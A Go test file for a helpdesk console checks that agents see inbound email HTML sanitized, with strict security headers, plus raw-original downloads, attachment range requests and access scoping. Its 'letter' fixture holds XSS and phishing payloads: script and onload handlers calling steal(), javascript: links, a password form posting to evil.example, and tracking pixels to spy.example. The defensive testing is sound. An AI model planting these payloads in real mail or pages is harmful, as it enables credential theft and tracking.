package console

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"hearback/desk"
	"hearback/ticketstore"
	"hearback/ticketstore/storetest"
)

// mail files what a customer's mail program wrote, raw as it came.
func (w *world) mail(raw string, change func(*desk.Inbound)) (desk.ID, desk.Message) {
	w.Helper()
	env := []desk.Envelope{{ChannelID: w.channel.ID, Kind: "email", Type: desk.EnvelopeMessage, ExternalID: desk.NewID(), Sender: "wang@example.com", Raw: []byte(raw)}}
	w.ok(w.store.PutInbox(w.Context(), []*ticketstore.Arrival{{ChannelID: w.channel.ID, Envelopes: env}}, desk.At(time.Now().Add(time.Minute))))
	in := desk.Inbound{
		Type: desk.EnvelopeMessage, Text: "hello", Name: "Wang", From: desk.Identity{Type: "email", Value: "wang@example.com", Verified: true},
		Headers: &desk.Headers{From: "Wang <wang@example.com>", To: []string{"desk@example.com"}, Checks: []desk.Check{{Name: "dmarc", Result: "fail"}}, Badges: []string{"signed"}},
	}
	if change != nil {
		change(&in)
	}
	filed := must(w.store.File(w.Context(), []ticketstore.Filing{{Envelope: env[0], Inbounds: []desk.Inbound{in}, Plans: []ticketstore.Plan{{TeamID: w.support.ID}}}}))(w.TB)
	return filed[0].TicketID, must(w.store.Message(w.Context(), filed[0].MessageID))(w.TB)
}

// fetch makes a request and returns the whole answer.
func (w *world) fetch(who desk.Agent, path string, header ...string) (*http.Response, []byte) {
	w.Helper()
	r, err := http.NewRequest("GET", w.server.URL+path, nil)
	w.ok(err)
	r.Header.Set("Authorization", "Bearer "+w.tokens[who.ID])
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	answer, err := w.server.Client().Do(r)
	w.ok(err)
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	w.ok(err)
	return answer, body
}

const letter = `<html><head><style>p{background:url(https://spy.example/css)}</style><title>t</title><meta http-equiv=refresh content="0;url=https://evil.example"></head>
<body onload="steal()"><p style="color:red;background-image:url('https://spy.example/bg');position:fixed">你好 <b>world</b></p>
<img src="cid:Logo@x" alt="our logo"><img src="https://spy.example/pixel.gif?who=42" alt="pixel" onerror="steal()">
<img src="data:image/png;base64,iVBORw0KGgo="><img src="javascript:steal()"><a href="javascript:steal()">bad</a> <a href="https://shop.example/?a=1&amp;b=2">good</a>
<script>steal()</script><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=password></form>
<svg onload="steal()"></svg><object data="https://evil.example"></object><base href="https://evil.example/"><link rel=stylesheet href="https://spy.example/x.css"></body></html>`

func TestLetterIsShownWithoutAnythingThatRunsOrTells(t *testing.T) {
	w := newWorld(t, storetest.SQLite(t))
	picture := must(w.console.blobs.Put(t.Context(), strings.NewReader("\x89PNG\r\n\x1a\n"), 0))(t)
	_, m := w.mail("raw", func(in *desk.Inbound) {
		in.HTML = letter
		in.Attachments = []desk.InboundAttachment{{Name: "logo.png", Type: "image/png", Inline: true, ContentID: "<logo@X>", Blob: picture.Key, Size: picture.Size}}
	})
	answer, page := w.fetch(w.wang, "/api/v1/messages/"+m.ID+"/html")
	text := string(page)
	for _, never := range []string{"steal", "spy.example", "evil.example", "<script", "<iframe", "<form", "<input", "<svg", "position", "refresh", "javascript"} {
		if strings.Contains(text, never) {
			t.Errorf("the page has %q in it:\n%s", never, text)
		}
	}
	for _, always := range []string{"你好 <b>world</b>", `src="/api/v1/attachments/` + m.Attachments[0].ID + `"`, "data:image/png;base64,iVBORw0KGgo=", `alt="pixel"`, `href="https://shop.example/?a=1&amp;b=2"`, "color: red"} {
		if !strings.Contains(text, always) {
			t.Errorf("the page lacks %q:\n%s", always, text)
		}
	}
	rules := answer.Header.Get("Content-Security-Policy")
	if !strings.HasPrefix(rules, "default-src 'none'; img-src 'self' data:;") || !strings.Contains(rules, "sandbox ") || strings.Contains(rules, "allow-scripts") {
		t.Errorf("rules %q", rules)
	}
	for name, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Content-Type": "text/html; charset=utf-8"} {
		if got := answer.Header.Get(name); got != want {
			t.Errorf("%s: %q", name, got)
		}
	}
	answer, page = w.fetch(w.wang, "/api/v1/messages/"+m.ID+"/html?pictures=true")
	if !strings.Contains(answer.Header.Get("Content-Security-Policy"), "img-src 'self' data: https: http:;") {
		t.Errorf("rules with pictures: %q", answer.Header.Get("Content-Security-Policy"))
	}
	if text := string(page); !strings.Contains(text, "https://spy.example/pixel.gif?who=42") || strings.Contains(text, "steal") {
		t.Errorf("with pictures:\n%s", text)
	}
	if answer, _ := w.fetch(w.boss, "/api/v1/messages/"+m.ID+"/html"); answer.StatusCode != 404 {
		t.Errorf("out of scope: %d", answer.StatusCode)
	}
}

func TestHugeAndHostileLettersAreShownCut(t *testing.T) {
	for name, one := range map[string]string{
		"long": "<p>字字字</p>", "deep": "<div><table><tr><td>", "styles": `<i style="font-family:a,b,c;border:1px solid red;font:12px/1 x">x</i>`,
		"entities": "&#x26;&lt;script&gt;", "broken": "<img src='cid:a", "quotes": `<a href="https://a.example/"'>`, "pictures": `<img src="https://a.example/x">`,
	} {
		page := letterPage(desk.Message{HTML: strings.Repeat(one, (2<<20)/len(one))}, false)
		if len(page) > 12<<20 || !bytes.Contains(page, []byte("hearback-cut")) || bytes.Contains(page, []byte("<script")) {
			t.Errorf("%s: %d bytes", name, len(page))
		}
	}
}

func TestOriginalIsWhatCameInByteByByte(t *testing.T) {
	inBothWorlds(t, func(t *testing.T, w *world) {
		raw := "From: wang@example.com\r\nSubject: =?gbk?q?=C4=E3?=\r\n\r\n\xc4\xe3\x00<script>"
		_, m := w.mail(raw, nil)
		answer, body := w.fetch(w.wang, "/api/v1/messages/"+m.ID+"/original")
		if answer.StatusCode != 200 || string(body) != raw {
			t.Fatalf("%d %q", answer.StatusCode, body)
		}
		if d := answer.Header.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment;") || !strings.Contains(d, ".eml") {
			t.Errorf("disposition %q", d)
		}
		if answer.Header.Get("Content-Type") != "text/plain; charset=utf-8" || answer.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%v", answer.Header)
		}
		if answer, _ := w.fetch(w.boss, "/api/v1/messages/"+m.ID+"/original"); answer.StatusCode != 404 {
			t.Errorf("out of scope: %d", answer.StatusCode)
		}
		_, chat := w.arrive("v1", "hello", w.support.ID)
		if answer, _ := w.fetch(w.wang, "/api/v1/messages/"+chat.ID+"/original"); answer.StatusCode != 404 {
			t.Errorf("an agent got another provider's raw message: %d", answer.StatusCode)
		}
		if answer, body := w.fetch(w.admin, "/api/v1/messages/"+chat.ID+"/original"); answer.StatusCode != 200 || string(body) != "hello" {
			t.Errorf("an admin: %d %q", answer.StatusCode, body)
		}
		ticket, _ := w.arrive("v1", "more", w.support.ID)
		note := must(w.store.Note(t.Context(), ticket, desk.Author{Kind: "agent", ID: w.wang.ID}, "note", nil, "k"))(t)
		if answer, _ := w.fetch(w.admin, "/api/v1/messages/"+note.Message.ID+"/original"); answer.StatusCode != 404 {
			t.Errorf("a note has an original: %d", answer.StatusCode)
		}
	})
}

func TestBigOriginalIsReadFromItsFile(t *testing.T) {
	w := newWorld(t, storetest.SQLite(t))
	_, m := w.mail("Subject: big\r\n\r\n"+strings.Repeat("x", 100<<10), nil)
	if answer, body := w.fetch(w.wang, "/api/v1/messages/"+m.ID+"/original"); answer.StatusCode != 200 || len(body) < 100<<10 {
		t.Errorf("%d, %d bytes", answer.StatusCode, len(body))
	}
}

func TestHeadOfALetterIsOnItsMessage(t *testing.T) {
	w := newWorld(t, storetest.SQLite(t))
	ticket, _ := w.mail("raw", nil)
	all := w.want(200, w.wang, "GET", "/api/v1/tickets/"+ticket+"/messages", nil)["items"].([]any)
	first := all[slices.IndexFunc(all, func(m any) bool { return m.(map[string]any)["direction"] == "in" })].(map[string]any)
	head, _ := first["headers"].(map[string]any)
	if fmt.Sprint(head["to"]) != "[desk@example.com]" || fmt.Sprint(head["badges"]) != "[signed]" || !strings.Contains(fmt.Sprint(head["checks"]), "dmarc") || first["channel"] != nil {
		t.Errorf("%v", first)
	}
}

func TestSoundIsPlayedInPieces(t *testing.T) {
	w := newWorld(t, storetest.SQLite(t))
	wav := "RIFF\x24\x00\x00\x00WAVEfmt " + strings.Repeat("s", 5000)
	for _, c := range []struct{ content, declared, kind, shown string }{
		{wav, "audio/wave", "audio/wav", "inline"}, {wav, "application/octet-stream", "audio/wav", "inline"},
		{"\xff\xfb\x90\x00" + wav, "", "audio/mpeg", "inline"}, {"#!AMR\n" + wav, "audio/amr", "audio/amr", "inline"},
		{"<svg onload=x>" + wav, "image/svg+xml", "image/svg+xml", "attachment"}, {"<html>" + wav, "text/html", "text/html", "attachment"},
		{"\x00\x00\x00\x18ftypmp42" + wav, "video/mp4", "video/mp4", "inline"},
	} {
		blob := must(w.console.blobs.Put(t.Context(), strings.NewReader(c.content), 0))(t)
		_, m := w.mail("raw", func(in *desk.Inbound) {
			in.Attachments = []desk.InboundAttachment{{Name: "录音.x", Type: c.declared, Blob: blob.Key, Size: blob.Size}}
		})
		path := "/api/v1/attachments/" + m.Attachments[0].ID
		answer, body := w.fetch(w.wang, path, "Range", "bytes=10-19")
		if answer.StatusCode != 206 || string(body) != c.content[10:20] || answer.Header.Get("Content-Range") != fmt.Sprintf("bytes 10-19/%d", len(c.content)) {
			t.Errorf("%s: %d %q %v", c.declared, answer.StatusCode, body, answer.Header)
		}
		h := answer.Header
		if got := h.Get("Content-Type"); got != c.kind && m.Attachments[0].Type == c.declared {
			t.Errorf("%s: type %s", c.declared, got)
		}
		if !strings.HasPrefix(h.Get("Content-Disposition"), c.shown) || !strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox;") || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %v", c.declared, h)
		}
		if answer, _ := w.fetch(w.wang, path, "Range", "bytes=999999-"); answer.StatusCode != 416 {
			t.Errorf("beyond the end: %d", answer.StatusCode)
		}
	}
}

func TestContactsAreThoseOfTicketsInScope(t *testing.T) {
	inBothWorlds(t, func(t *testing.T, w *world) {
		ours, _ := w.arrive("v1", "one", w.support.ID)
		theirs, _ := w.arrive("v2", "two", w.finance.ID)
		taken, _ := w.arrive("v3", "three", w.support.ID)
		w.give(taken, w.li)
		contact := func(ticket desk.ID) desk.ID { return must(w.store.Ticket(t.Context(), ticket))(t).ContactID }
		for _, c := range []struct {
			who  desk.Agent
			sees []desk.ID
		}{{w.wang, []desk.ID{ours}}, {w.li, []desk.ID{ours, taken}}, {w.boss, []desk.ID{theirs}}, {w.admin, []desk.ID{ours, theirs, taken}}} {
			for _, q := range []string{"", "?q=王芳"} {
				if got := w.want(200, c.who, "GET", "/api/v1/contacts"+q, nil)["items"].([]any); len(got) != len(c.sees) {
					t.Errorf("%s lists %d contacts%s, want %d", c.who.Name, len(got), q, len(c.sees))
				}
			}
			for _, ticket := range []desk.ID{ours, theirs, taken} {
				want := 404
				for _, seen := range c.sees {
					if seen == ticket {
						want = 200
					}
				}
				path := "/api/v1/contacts/" + contact(ticket)
				w.want(want, c.who, "GET", path, nil)
				w.want(want, c.who, "GET", path+"/tickets", nil)
				w.want(want, c.who, "PATCH", path, map[string]string{"note": "seen"})
			}
		}
	})
}
